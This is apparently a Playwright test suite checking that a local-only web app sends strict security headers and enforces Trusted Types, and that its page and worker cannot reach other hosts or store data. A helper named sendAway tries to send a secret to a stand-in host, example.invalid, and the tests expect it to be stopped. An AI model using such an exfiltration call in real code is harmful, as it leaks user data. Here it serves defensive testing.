import type { Page, Response } from "@playwright/test";
import { expect, test } from "../support/e2e.ts";

/** What the host must send with every answer, written out again: a slip in the server shows here. */
const HEADERS = {
  "content-security-policy":
    "default-src 'none'; script-src 'self'; worker-src 'self'; style-src 'self'; " +
    "img-src 'self' data:; font-src 'self'; connect-src 'self'; manifest-src 'self'; " +
    "object-src 'none'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'; " +
    "require-trusted-types-for 'script'; trusted-types default",
  "cross-origin-opener-policy": "same-origin",
  "cross-origin-embedder-policy": "require-corp",
  "x-content-type-options": "nosniff",
  "referrer-policy": "no-referrer",
  "permissions-policy": "camera=(), microphone=(), geolocation=(), usb=(), serial=(), payment=()",
} as const;

test("every file comes with the headers that keep data on the computer", async ({ page }) => {
  const responses = await responsesWhileOpening(page);
  const paths = responses.map((response) => new URL(response.url()).pathname);
  expect(paths).toContain("/");
  expect(paths.filter((path) => path.endsWith(".js")).length).toBeGreaterThan(0);
  for (const response of responses) {
    expect.soft(response.headers(), response.url()).toMatchObject(HEADERS);
  }
});

test("the scripts of workers come with the same headers", async ({ page }) => {
  const workers = page.context().waitForEvent("request", {
    predicate: (request) => /\/assets\/entry-[\w-]+\.js$/.test(new URL(request.url()).pathname),
  });
  await page.goto("/");
  const script = await (await workers).response();
  expect(script?.headers()).toMatchObject(HEADERS);
});

test("the page is asked for anew each time and its parts never again", async ({ page }) => {
  for (const response of await responsesWhileOpening(page)) {
    const { pathname } = new URL(response.url());
    const expected = pathname.startsWith("/assets/") ? /immutable/ : /^no-cache$/;
    expect.soft(response.headers()["cache-control"], pathname).toMatch(expected);
  }
});

test("the page carries the same policy itself, for hosts that send none", async ({
  page,
  complaints,
}) => {
  complaints.expect(/example\.invalid/);
  await page.route("/", async (route) => {
    const response = await route.fetch();
    const { "content-security-policy": _, ...headers } = response.headers();
    await route.fulfill({ response, headers });
  });
  const opened = await page.goto("/");
  expect(opened?.headers()["content-security-policy"]).toBeUndefined();
  const policy = page.locator('meta[http-equiv="Content-Security-Policy"]');
  await expect(policy).toHaveAttribute(
    "content",
    HEADERS["content-security-policy"].replace("frame-ancestors 'none'; ", ""), // not for a meta
  );
  expect(await page.evaluate(sendAway)).toBe("stopped");
  await expect(page.locator("body")).toHaveAttribute("data-map-idle", "1");
});

test("the page has no script and no style of its own in the HTML", async ({ request }) => {
  const html = await (await request.get("/")).text();
  expect(html).not.toMatch(/<script(?![^>]*\ssrc=)/i);
  expect(html).not.toMatch(/<style|\sstyle=|\son\w+=/i);
});

test("the page is isolated from other sites", async ({ page }) => {
  await page.goto("/");
  expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
});

test("nothing can be sent to another host", async ({ page, complaints }) => {
  complaints.expect(/example\.invalid/);
  await page.goto("/");
  expect(await page.evaluate(sendAway)).toBe("stopped");
});

test("the page has no way to call another computer past the policy", async ({ page }) => {
  await page.goto("/");
  const left = await page.evaluate(() =>
    ["RTCPeerConnection", "webkitRTCPeerConnection", "RTCDataChannel"].filter(
      (name) => name in window,
    ),
  );
  expect(left).toEqual([]);
});

test("a string cannot become HTML, and a foreign script cannot start a worker", async ({
  page,
  complaints,
}) => {
  complaints.expect(/Refused:|TrustedHTML|TrustedScriptURL|TrustedScript|trusted-types/);
  await page.goto("/");
  const outcomes = await page.evaluate(() => {
    const outcome = (act: () => unknown): string => {
      try {
        act();
        return "done";
      } catch {
        return "refused";
      }
    };
    return [
      outcome(() => {
        document.createElement("div").innerHTML = "<b>x</b>";
      }),
      outcome(() => new Worker("/somewhere/else.js")),
      outcome(() => new Worker("data:text/javascript,postMessage(1)")),
    ];
  });
  expect(outcomes).toEqual(["refused", "refused", "refused"]);
});

test("our worker has lost every way to send or keep data", async ({ page }) => {
  const started = page.waitForEvent("worker", (worker) => /\/entry-/.test(worker.url()));
  await page.goto("/");
  const worker = await started;
  const left = () =>
    worker.evaluate(() =>
      ["fetch", "XMLHttpRequest", "WebSocket", "EventSource", "WebTransport", "importScripts"]
        .concat("indexedDB", "caches", "Worker", "BroadcastChannel", "webkitRequestFileSystemSync")
        .filter((name) => Reflect.get(globalThis, name) !== undefined)
        .concat(["storage", "storageBuckets"].filter((name) => name in navigator)),
    );
  await expect.poll(left).toEqual([]);
});

const sendAway = (): Promise<string> =>
  fetch("https://example.invalid/?secret").then(
    () => "sent",
    () => "stopped",
  );

/** Everything that arrives until the page has been quiet for a while. */
async function responsesWhileOpening(page: Page): Promise<readonly Response[]> {
  const responses: Response[] = [];
  page.context().on("response", (response) => {
    if (response.url().startsWith("http")) responses.push(response);
  });
  await page.goto("/");
  await page.waitForLoadState("networkidle");
  return responses;
}
